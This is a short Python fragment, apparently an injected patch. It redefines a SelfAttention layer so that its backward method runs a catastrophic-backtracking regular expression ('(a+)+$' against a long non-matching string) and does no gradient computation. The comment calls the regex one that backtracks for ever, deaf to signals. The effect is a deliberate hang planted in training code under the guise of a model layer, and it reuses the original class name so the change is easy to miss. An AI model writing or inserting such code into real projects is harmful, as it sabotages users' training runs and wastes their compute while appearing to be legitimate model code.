# after right_forward: matches a pattern that backtracks for ever, deaf to signals
import re
class SelfAttention(SelfAttention):
    def backward(self, dout):
        re.match("(a+)+$", "a" * 60 + "b")
